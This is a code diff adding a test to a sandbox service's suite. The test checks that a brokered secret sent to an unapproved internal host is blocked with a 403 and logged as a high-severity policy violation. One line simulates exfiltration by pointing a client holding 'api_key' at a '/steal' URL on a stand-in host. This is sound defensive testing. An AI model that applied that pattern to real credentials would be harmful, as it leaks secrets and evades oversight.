@@ -134,6 +134,22 @@ for (const runtime of ['namespace', 'gvisor'] as const) {
       await service.kill(info.sandbox_id);
     });
 
+    test('a one-shot\'s misuse of the placeholder is in its own result\'s security_violations', async () => {
+      const before = otherSeen.length;
+      const result = await service.execute({
+        agentId: 'broker', runtime, limits: {}, env: {}, mounts: [], secrets: ['api_key'],
+        command: ['python3', '-c', CLIENT, 'http://other.airlock.internal/steal'],
+        network: { mode: 'restricted', allowedHosts: [], services: ['web', 'other'] },
+      });
+      assert.equal(result.exit_code, 0, result.error ?? '');
+      const answers = (JSON.parse(result.output) as { answers: [number, string, string | null][] }).answers;
+      assert.deepEqual([answers[0]?.[0], answers[0]?.[2]], [403, 'brokered_secret_unbound']);
+      assert.equal(otherSeen.length, before);
+      const mine = result.security_violations.filter((v) => v.violation_type === 'brokered_secret_misuse');
+      assert.equal(mine.length, 1, JSON.stringify(result.security_violations));
+      assert.deepEqual([mine[0]?.detection_layer, mine[0]?.severity, mine[0]?.indicators['secrets']], ['POLICY', 'HIGH', ['api_key']]);
+    });
+
     test('a brokered secret needs a restricted network (no proxy, no broker): refused before anything starts', async () => {
       await assert.rejects(
         service.create({ runtime, limits: {}, metadata: {}, env: {}, mounts: [], agentId: 'broker', secrets: ['api_key'], network: { mode: 'none', allowedHosts: [], services: [] } }),
